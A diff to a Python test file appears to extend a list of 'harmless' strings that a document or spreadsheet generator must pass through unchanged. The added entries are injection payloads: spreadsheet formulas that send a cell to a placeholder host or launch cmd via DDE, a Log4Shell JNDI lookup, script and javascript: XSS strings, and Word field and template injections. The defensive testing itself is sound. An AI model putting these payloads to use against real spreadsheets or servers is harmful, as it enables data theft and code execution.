@@ -15,6 +15,10 @@ HARMLESS = [
     "_x000D_ and _x0041_ and _x005F_", "{{ 1 + 1 }} {{ khong.co }}", "{% for x in chi_tieu %}", "{# x #}", "{DDEAUTO c:\\x}",
     "INCLUDETEXT \"http://x\"", "a\u202eb\u200fc\u2066d", "\U0001f600 \U00020000", "%s {0} {x} $1 \\1",
     "/truong[.='x']", "'", '"', "`", "a'b\"c",
+    '=WEBSERVICE("http://x/"&A1)', '=HYPERLINK("http://x","mở")', '=DDE("cmd";"/c calc";"a")', "＝1+1 ＠SUM(A1)", "'=1+1",
+    "x;=1+1", "x,=cmd|' /C calc'!A0", "{=TABLE(A1)}", "javascript:alert(1)", "ms-word:ofe|u|http://x/a.docx", "&#x3D;1+1 &#61;",
+    '</w:instrText><w:hyperlink r:id="rId1">', 'HYPERLINK "http://x" \\t _blank', "${jndi:ldap://x}", "{{ phu_luc }}",
+    "{%- include 'x' -%}", "<script>alert(1)</script>", "%00%0a=1+1",
 ]  # fmt: skip
 """Texts that must come out as they went in."""
 
